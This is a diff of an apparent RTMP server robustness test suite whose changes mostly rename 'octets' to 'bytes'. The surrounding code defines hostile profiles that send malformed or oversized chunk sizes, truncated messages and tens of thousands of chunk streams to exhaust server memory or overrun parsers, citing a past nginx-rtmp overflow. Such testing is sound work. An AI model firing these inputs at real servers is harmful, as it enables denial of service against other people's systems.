@@ -62,7 +62,7 @@ async def _one_octet_chunks(attack: Attack) -> None:
     octets = writer.set_chunk_size(1)
     octets += writer.write(commands.command("connect", 1.0, peer.connect_object()))
     octets += writer.write(commands.command("createStream", 2.0, None))
-    name = attack.context.own_name("one-octet")
+    name = attack.context.own_name("one-byte")
     octets += writer.write(commands.command("publish", 3.0, None, name, "live", stream_id=1))
     await peer.write(octets)
     for index in range(16):
@@ -109,7 +109,7 @@ PROFILES: Final = (
         summary="announces chunks of 2 GiB, begins one, and waits",
         explanation="Set Chunk Size 0x7FFFFFFF, and 0xFFFFFFFF, whose first bit may not be set. A server that makes "
         "room for a whole chunk takes 2 GiB per connection. Sound servers refuse the size, or let memory follow the "
-        "octets that have come.",
+        "bytes that have come.",
         forms=(
             Form(name="largest", run=_huge_chunk_size),
             Form(name="first-bit", run=after_handshake(set_chunk_size(b"\xff\xff\xff\xff"))),
@@ -119,22 +119,19 @@ PROFILES: Final = (
         id="B02",
         name="tiny-chunks",
         summary="sets a chunk size of 1 and sends 256 KiB so",
-        explanation="Each octet then needs a header and a turn of the parser. Sound servers have a least chunk size, "
+        explanation="Each byte then needs a header and a turn of the parser. Sound servers have a least chunk size, "
         "or do the work without disturbing others.",
         forms=(Form(name="", run=_one_octet_chunks),),
     ),
     HostileProfile(
         id="B03",
         name="bad-chunk-size",
-        summary="sets a chunk size of 0, or sends no, 1, 2 or 3 octets of the 4",
+        summary="sets a chunk size of 0, or sends no, 1, 2 or 3 bytes of the 4",
         explanation="A chunk size of 0 makes a parser loop for ever; a short body makes it read beyond the end. Sound "
         "servers refuse both.",
         forms=(
             Form(name="zero", run=after_handshake(set_chunk_size(bytes(4)))),
-            *(
-                Form(name=f"{size}-octets", run=after_handshake(set_chunk_size(b"\0\0\x10"[:size])))
-                for size in range(4)
-            ),
+            *(Form(name=f"{size}-bytes", run=after_handshake(set_chunk_size(b"\0\0\x10"[:size]))) for size in range(4)),
         ),
     ),
     HostileProfile(
@@ -142,9 +139,9 @@ PROFILES: Final = (
         name="declared-length",
         summary="declares long messages and sends only their beginning",
         explanation="Messages of 16 MiB (video, command, data, control) are declared, and two of 9 MiB, which many "
-        "servers allow. One of those is sent but for its last octet, by a peer that has not even said connect. A "
+        "servers allow. One of those is sent but for its last byte, by a peer that has not even said connect. A "
         "server that allocates what is declared loses that much per connection. Sound servers refuse by the length, "
-        "let memory follow the octets that have come, and take little from a peer that does not publish.",
+        "let memory follow the bytes that have come, and take little from a peer that does not publish.",
         forms=(
             Form(name="video", run=after_handshake(header(TYPE_VIDEO, 0xFFFFFF, csid=6, msid=1) + _FIRST_PART)),
             Form(name="command", run=after_handshake(header(TYPE_COMMAND_AMF0, 0xFFFFFF) + _FIRST_PART)),
@@ -159,7 +156,7 @@ PROFILES: Final = (
         name="many-chunk-streams",
         summary="begins a message on each of 65,597 chunk streams",
         explanation="Each chunk stream has a state and a partial message, which a server may not forget. Sound servers "
-        "limit the number of chunk streams, or the octets held in all of them.",
+        "limit the number of chunk streams, or the bytes held in all of them.",
         forms=(Form(name="", run=_many_chunk_streams),),
     ),
     HostileProfile(
@@ -178,7 +175,7 @@ PROFILES: Final = (
         id="B07",
         name="resized-chunks",
         summary="changes the chunk size in the middle of a message",
-        explanation="Set Chunk Size comes between two chunks of a connect: from 128 to 4096 octets, and from 4096 to "
+        explanation="Set Chunk Size comes between two chunks of a connect: from 128 to 4096 bytes, and from 4096 to "
         "128. It applies from the next chunk on. nginx-rtmp overran its buffer here. Sound servers answer the connect, "
         "or end the connection.",
         forms=(
